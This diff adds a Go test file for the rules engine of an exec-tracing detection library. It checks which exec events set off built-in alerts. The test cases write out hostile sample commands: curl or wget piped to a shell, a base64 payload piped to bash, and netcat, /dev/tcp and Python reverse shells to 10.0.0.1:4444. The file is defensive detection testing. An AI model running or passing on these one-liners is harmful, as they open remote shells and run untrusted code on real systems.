@@ -0,0 +1,309 @@
+package rules_test
+
+import (
+	"os"
+	"path/filepath"
+	"sort"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+
+	"github.com/coder/exectrace"
+	"github.com/coder/exectrace/exectracetest"
+	"github.com/coder/exectrace/rules"
+)
+
+func TestBuiltin(t *testing.T) {
+	t.Parallel()
+
+	builtin, err := rules.Builtin()
+	require.NoError(t, err)
+	engine, err := rules.NewEngine(builtin, nil)
+	require.NoError(t, err)
+
+	cases := []struct {
+		name     string
+		event    exectrace.Event
+		expected []string
+	}{
+		{
+			name: "Benign",
+			event: exectrace.Event{
+				Filename: "/usr/bin/ls",
+				Argv:     []string{"ls", "-la"},
+			},
+			expected: nil,
+		},
+		{
+			name: "CurlPipeShell",
+			event: exectrace.Event{
+				Filename: "/bin/sh",
+				Argv:     []string{"sh", "-c", "curl -fsSL https://example.com/install.sh | sh"},
+			},
+			expected: []string{"exectrace-download-piped-to-shell"},
+		},
+		{
+			name: "WgetPipeSudoBash",
+			event: exectrace.Event{
+				Filename: "/bin/bash",
+				Argv:     []string{"bash", "-c", "wget -qO- https://example.com/x | sudo bash"},
+			},
+			expected: []string{"exectrace-download-piped-to-shell"},
+		},
+		{
+			name: "CurlToFile",
+			event: exectrace.Event{
+				Filename: "/usr/bin/curl",
+				Argv:     []string{"curl", "-o", "out.tar.gz", "https://example.com/x.tar.gz"},
+			},
+			expected: nil,
+		},
+		{
+			name: "Base64Decode",
+			event: exectrace.Event{
+				Filename: "/bin/sh",
+				Argv:     []string{"sh", "-c", "echo ZWNobyBoaQo= | base64 -d | bash"},
+			},
+			expected: []string{"exectrace-base64-decoded-payload"},
+		},
+		{
+			name: "Base64DecodeToFile",
+			event: exectrace.Event{
+				Filename: "/bin/sh",
+				Argv:     []string{"sh", "-c", "base64 --decode cert.b64 > cert.pem"},
+			},
+			expected: nil,
+		},
+		{
+			name: "ChmodTmp",
+			event: exectrace.Event{
+				Filename: "/usr/bin/chmod",
+				Argv:     []string{"chmod", "+x", "/tmp/payload"},
+			},
+			expected: []string{"exectrace-chmod-exec-tmp"},
+		},
+		{
+			name: "ChmodTmpNotExecutable",
+			event: exectrace.Event{
+				Filename: "/usr/bin/chmod",
+				Argv:     []string{"chmod", "644", "/tmp/file"},
+			},
+			expected: nil,
+		},
+		{
+			name: "NetcatExec",
+			event: exectrace.Event{
+				Filename: "/usr/bin/nc",
+				Argv:     []string{"nc", "10.0.0.1", "4444", "-e", "/bin/sh"},
+			},
+			expected: []string{"exectrace-netcat-exec"},
+		},
+		{
+			name: "NetcatListen",
+			event: exectrace.Event{
+				Filename: "/usr/bin/nc",
+				Argv:     []string{"nc", "-l", "8080"},
+			},
+			expected: nil,
+		},
+		{
+			name: "DevTCP",
+			event: exectrace.Event{
+				Filename: "/bin/bash",
+				Argv:     []string{"bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
+			},
+			expected: []string{"exectrace-dev-tcp-reverse-shell"},
+		},
+		{
+			name: "PythonReverseShell",
+			event: exectrace.Event{
+				Filename: "/usr/bin/python3",
+				Argv: []string{
+					"python3", "-c",
+					`import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])`,
+				},
+			},
+			expected: []string{"exectrace-scripting-reverse-shell"},
+		},
+		{
+			name: "DevShm",
+			event: exectrace.Event{
+				Filename: "/dev/shm/.x",
+				Argv:     []string{"/dev/shm/.x"},
+			},
+			expected: []string{"exectrace-exec-from-dev-shm"},
+		},
+		{
+			name: "Tmp",
+			event: exectrace.Event{
+				Filename: "/tmp/payload",
+				Argv:     []string{"/tmp/payload"},
+			},
+			expected: []string{"exectrace-exec-from-tmp"},
+		},
+		{
+			name: "TmpGoBuild",
+			event: exectrace.Event{
+				Filename: "/tmp/go-build1234/b001/exe/main",
+				Argv:     []string{"/tmp/go-build1234/b001/exe/main"},
+			},
+			expected: nil,
+		},
+		{
+			name: "Truncated",
+			event: exectrace.Event{
+				Filename:  "/usr/bin/echo",
+				Argv:      []string{"echo", "a"},
+				Truncated: true,
+			},
+			expected: []string{"exectrace-truncated-arguments"},
+		},
+	}
+
+	for _, c := range cases {
+		c := c
+		t.Run(c.name, func(t *testing.T) {
+			t.Parallel()
+
+			alerts := engine.Match(&c.event)
+			var got []string
+			for _, alert := range alerts {
+				require.Equal(t, &c.event, alert.Event)
+				require.NotEmpty(t, alert.Title)
+				require.True(t, alert.Severity.Valid())
+				got = append(got, alert.RuleID)
+			}
+			sort.Strings(got)
+			require.Equal(t, c.expected, got)
+		})
+	}
+}
+
+func TestParse(t *testing.T) {
+	t.Parallel()
+
+	t.Run("Modifiers", func(t *testing.T) {
+		t.Parallel()
+
+		parsed, err := rules.Parse([]byte(`
+id: test
+title: Test
+level: critical
+detection:
+  sel_a:
+    argv|contains|all:
+      - foo
+      - bar
+  sel_b:
+    - comm: sshd
+    - uid: 0
+  sel_c:
+    filename|cased: /usr/bin/Foo
+  condition: sel_a and (1 of sel_b or sel_c) and not sel_never
+  sel_never:
+    gid: 1234
+`))
+		require.NoError(t, err)
+		require.Len(t, parsed, 1)
+		rule := parsed[0]
+		require.Equal(t, "test", rule.ID)
+		require.Equal(t, rules.SeverityCritical, rule.Severity)
+
+		require.True(t, rule.Match(&exectrace.Event{Argv: []string{"x", "FOO", "bar"}, Comm: "SSHD"}))
+		require.True(t, rule.Match(&exectrace.Event{Argv: []string{"foobar"}, UID: 0, GID: 1}))
+		require.False(t, rule.Match(&exectrace.Event{Argv: []string{"foo"}, UID: 0}))
+		require.False(t, rule.Match(&exectrace.Event{Argv: []string{"foo", "bar"}, UID: 1000, Comm: "bash"}))
+		require.False(t, rule.Match(&exectrace.Event{Argv: []string{"foo", "bar"}, GID: 1234}))
+		require.True(t, rule.Match(&exectrace.Event{Argv: []string{"foo", "bar"}, UID: 1, Filename: "/usr/bin/Foo"}))
+		require.False(t, rule.Match(&exectrace.Event{Argv: []string{"foo", "bar"}, UID: 1, Filename: "/usr/bin/foo"}))
+	})
+
+	t.Run("Errors", func(t *testing.T) {
+		t.Parallel()
+
+		cases := map[string]string{
+			"MissingID":        "title: x\ndetection: {sel: {comm: x}, condition: sel}",
+			"MissingTitle":     "id: x\ndetection: {sel: {comm: x}, condition: sel}",
+			"BadLevel":         "id: x\ntitle: x\nlevel: urgent\ndetection: {sel: {comm: x}, condition: sel}",
+			"UnknownKey":       "id: x\ntitle: x\nfoo: bar\ndetection: {sel: {comm: x}, condition: sel}",
+			"NoCondition":      "id: x\ntitle: x\ndetection: {sel: {comm: x}}",
+			"NoSelections":     "id: x\ntitle: x\ndetection: {condition: sel}",
+			"UnknownField":     "id: x\ntitle: x\ndetection: {sel: {foo: x}, condition: sel}",
+			"UnknownModifier":  "id: x\ntitle: x\ndetection: {sel: {comm|foo: x}, condition: sel}",
+			"BadRegex":         "id: x\ntitle: x\ndetection: {sel: {comm|re: '('}, condition: sel}",
+			"UnknownSelection": "id: x\ntitle: x\ndetection: {sel: {comm: x}, condition: other}",
+			"BadCondition":     "id: x\ntitle: x\ndetection: {sel: {comm: x}, condition: sel and}",
+			"UnmatchedParen":   "id: x\ntitle: x\ndetection: {sel: {comm: x}, condition: (sel}",
+			"EmptyPattern":     "id: x\ntitle: x\ndetection: {sel: {comm: x}, condition: 1 of foo*}",
+		}
+		for name, doc := range cases {
+			doc := doc
+			t.Run(name, func(t *testing.T) {
+				t.Parallel()
+
+				_, err := rules.Parse([]byte(doc))
+				require.Error(t, err)
+			})
+		}
+	})
+}
+
+func TestLoadPath(t *testing.T) {
+	t.Parallel()
+
+	dir := t.TempDir()
+	err := os.WriteFile(filepath.Join(dir, "a.yaml"), []byte("id: a\ntitle: A\ndetection: {sel: {comm: a}, condition: sel}\n---\nid: b\ntitle: B\nlevel: low\ndetection: {sel: {comm: b}, condition: sel}\n"), 0o600)
+	require.NoError(t, err)
+	err = os.WriteFile(filepath.Join(dir, "c.yml"), []byte("id: c\ntitle: C\ndetection: {sel: {comm: c}, condition: sel}\n"), 0o600)
+	require.NoError(t, err)
+	err = os.WriteFile(filepath.Join(dir, "README.md"), []byte("not a rule"), 0o600)
+	require.NoError(t, err)
+
+	loaded, err := rules.LoadPath(dir)
+	require.NoError(t, err)
+	require.Len(t, loaded, 3)
+
+	engine, err := rules.NewEngine(loaded, &rules.EngineOpts{MinSeverity: rules.SeverityMedium})
+	require.NoError(t, err)
+	require.Len(t, engine.Rules(), 2)
+	require.Empty(t, engine.Match(&exectrace.Event{Comm: "b"}))
+	require.Len(t, engine.Match(&exectrace.Event{Comm: "c"}), 1)
+
+	_, err = rules.NewEngine(append(loaded, loaded[0]), nil)
+	require.Error(t, err)
+}
+
+func TestWatch(t *testing.T) {
+	t.Parallel()
+
+	builtin, err := rules.Builtin()
+	require.NoError(t, err)
+	engine, err := rules.NewEngine(builtin, nil)
+	require.NoError(t, err)
+
+	tracer := exectracetest.New()
+	defer tracer.Close()
+	tracer.Push(
+		&exectrace.Event{Filename: "/usr/bin/ls", Argv: []string{"ls", "-la"}},
+		&exectrace.Event{Filename: "/usr/bin/bash", Argv: []string{"bash", "-i", ">&", "/dev/tcp/10.0.0.1/4444", "0>&1"}},
+	)
+	tracer.Finish()
+
+	var alerts []rules.Alert
+	err = engine.Watch(tracer, func(alert rules.Alert) {
+		alerts = append(alerts, alert)
+	})
+	require.NoError(t, err)
+	require.NotEmpty(t, alerts)
+	for _, alert := range alerts {
+		require.Equal(t, "/usr/bin/bash", alert.Event.Filename)
+	}
+	require.Len(t, tracer.Consumed(), 2)
+
+	// Read errors are returned.
+	tracer = exectracetest.New()
+	defer tracer.Close()
+	tracer.PushError(os.ErrPermission)
+	err = engine.Watch(tracer, func(rules.Alert) {})
+	require.ErrorIs(t, err, os.ErrPermission)
+}